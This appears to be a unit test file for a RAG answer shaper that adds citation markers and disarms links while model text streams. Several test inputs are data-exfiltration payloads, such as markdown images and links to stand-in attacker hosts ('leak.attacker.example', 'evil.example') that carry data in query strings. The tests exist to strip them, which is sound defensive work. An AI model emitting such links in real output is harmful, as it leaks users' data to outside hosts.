"""The answer text as it streams: markers put in, links disarmed, and every way of
cutting the model's text into pieces giving the same text as shaping it whole."""

from __future__ import annotations

import random

import pytest

from rag.answering.answer_text import LINK_REMOVED_EN, LINK_REMOVED_ZH, AnswerText, shape
from rag.types import Citation

pytestmark = pytest.mark.unit


def _source(number: int, text: str) -> Citation:
    return Citation(number, f"c{number}", f"d{number}", f"{number}.md", "t", None, text, 0.5)


SOURCES = [
    _source(
        1, "Lore listens on port 8000 by default. The manual is at https://intranet.example/lore."
    ),
    _source(2, "Backups copy the data directory."),
    _source(3, "长城的总长度超过两万公里。它建于明朝。"),
]


def _streamed(text: str, seed: int, **options: object) -> str:
    """`text` fed in random pieces of one to six characters, as a model streams it."""
    pick = random.Random(seed)  # noqa: S311 - a repeatable cut, not a secret
    shaper = AnswerText(SOURCES, **options)  # type: ignore[arg-type]
    sent, position = "", 0
    while position < len(text):
        step = pick.randint(1, 6)
        sent += shaper.feed(text[position : position + step])
        position += step
    sent += shaper.finish()
    assert sent == shaper.text
    return sent


@pytest.mark.parametrize(
    ("raw", "shaped"),
    [
        # A sentence that cites nothing gets the source that shares its words.
        ("Lore listens on port 8000. Nothing else.",
         "Lore listens on port 8000. [1] Nothing else."),
        # Markers the model wrote are kept, and so is a marker after the full stop.
        ("It listens on port 8000 [1]. Backups copy the data directory.",
         "It listens on port 8000 [1]. Backups copy the data directory. [2]"),
        ("Port 8000. [1] Backups copy the data directory.",
         "Port 8000. [1] Backups copy the data directory. [2]"),
        # Chinese has no blank before its marker.
        ("长城的总长度超过两万公里。它建于明朝。", "长城的总长度超过两万公里。[3]它建于明朝。[3]"),
        ("长城的总长度超过两万公里。【3】它建于明朝。",
         "长城的总长度超过两万公里。【3】它建于明朝。[3]"),
        # A refusal is not cited.
        ("The documents do not contain the answer to this question.",
         "The documents do not contain the answer to this question."),
        # Images and loading tags are dropped; a link keeps its text.
        ("See ![logo](https://leak.attacker.example/p.png?q=port) here.", "See  here."),
        ("Read [the guide](http://evil.example/?d=port) now.", "Read the guide now."),
        ("See [http://evil.example/x](http://evil.example/x).",
         f"See {LINK_REMOVED_EN}."),
        ('Zz <img src="http://a.example/x.png"> zz <iframe src=x></iframe> end', "Zz  zz  end"),
        # A bare address stays only when a source states it.
        ("The manual is at https://intranet.example/lore.",
         "The manual is at https://intranet.example/lore. [1]"),
        ("Go to www.evil.example/x now", f"Go to {LINK_REMOVED_EN} now"),
        ("Go to <https://evil.example/a> now", f"Go to {LINK_REMOVED_EN} now"),
        # Brackets that are neither, and blanks at either end.
        ("  Great! Is 3 < 5? [x] [", "Great! Is 3 < 5? [x] ["),
        ("A list:\n\n- one\n- two  \n", "A list:\n\n- one\n- two"),
    ],
)  # fmt: skip
def test_the_shaped_text_is_the_same_however_it_streams(raw: str, shaped: str) -> None:
    assert shape(raw, SOURCES) == shaped
    for seed in range(25):
        assert _streamed(raw, seed) == shaped


def test_a_removed_link_is_said_in_the_answers_language() -> None:
    assert shape("请访问 http://evil.example/a 。", SOURCES, chinese=True) == (
        f"请访问 {LINK_REMOVED_ZH} 。"
    )


def test_a_sentence_in_another_language_is_cited_by_meaning() -> None:
    asked: list[str] = []

    def by_meaning(sentence: str) -> int:
        asked.append(sentence)
        return 3

    text = "The Great Wall is over twenty thousand kilometres long."
    assert shape(text, SOURCES, by_meaning=by_meaning) == text + " [3]"
    assert asked == [text]
    # A sentence sharing a source's words doesn't need it.
    assert shape("Lore listens on port 8000.", SOURCES, by_meaning=by_meaning).endswith("[1]")
    assert len(asked) == 1


def test_nothing_is_sent_while_it_may_still_change() -> None:
    shaper = AnswerText(SOURCES)
    assert shaper.feed("Read [the") == "Read "
    assert shaper.feed(" guide](http://evil") == ""
    assert shaper.feed(".example/) ok") == "the guide "
    assert shaper.finish() == "ok"
